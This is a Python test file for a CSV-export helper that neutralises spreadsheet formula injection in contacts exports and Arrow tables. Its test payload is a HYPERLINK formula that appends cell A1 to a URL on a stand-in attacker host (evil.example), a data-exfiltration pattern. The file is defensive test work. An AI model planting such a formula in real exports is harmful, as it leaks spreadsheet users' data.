"""Every CSV siyu writes keeps formula-looking text as text (OWASP CSV injection): the contacts
export, analytics results and rejected rows share one helper."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import httpx
import pyarrow as pa
import pyarrow.csv as pacsv
import pytest

from siyu.store.csv_safe import safe_cell, safe_table, write_rows

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


def test_other_cells_are_untouched() -> None:
    for value in ("张三", "a=b", " =x", "", None, -3, 2.5, "'=already"):
        assert safe_cell(value) == value
    rows = list(csv.reader(io.StringIO(write_rows([{"n": -3, "name": "-5", "x": "ok"}], ["n", "name", "x"]))))
    assert rows == [["n", "name", "x"], ["-3", "'-5", "ok"]]


def test_arrow_tables_keep_numbers_and_neutralise_text() -> None:
    table = pa.table({"=name": [FORMULA, "ok", None], "delta": [-1.5, 2.0, 3.0]})
    buf = io.BytesIO()
    pacsv.write_csv(safe_table(table), buf)
    rows = list(csv.reader(io.StringIO(buf.getvalue().decode())))
    assert rows[0] == ["'=name", "delta"]
    assert rows[1] == ["'" + FORMULA, "-1.5"] and rows[2] == ["ok", "2"] and rows[3] == ["", "3"]


def test_contacts_export_of_a_contact_named_like_a_formula(
    server: Any, api_key: Callable[[str], str]
) -> None:
    server.client.identify({"phone": "13912345678"}, traits={"name": FORMULA})
    owner = {"Authorization": f"Bearer {api_key('owner')}"}
    with httpx.Client(base_url=server.url, headers=owner, timeout=60) as http:
        export = http.get("/api/v1/exports/contacts")
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert [r["name"] for r in rows] == ["'" + FORMULA]
    assert rows[0]["identifiers"] == "phone:+8613912345678"  # starts with a letter: untouched
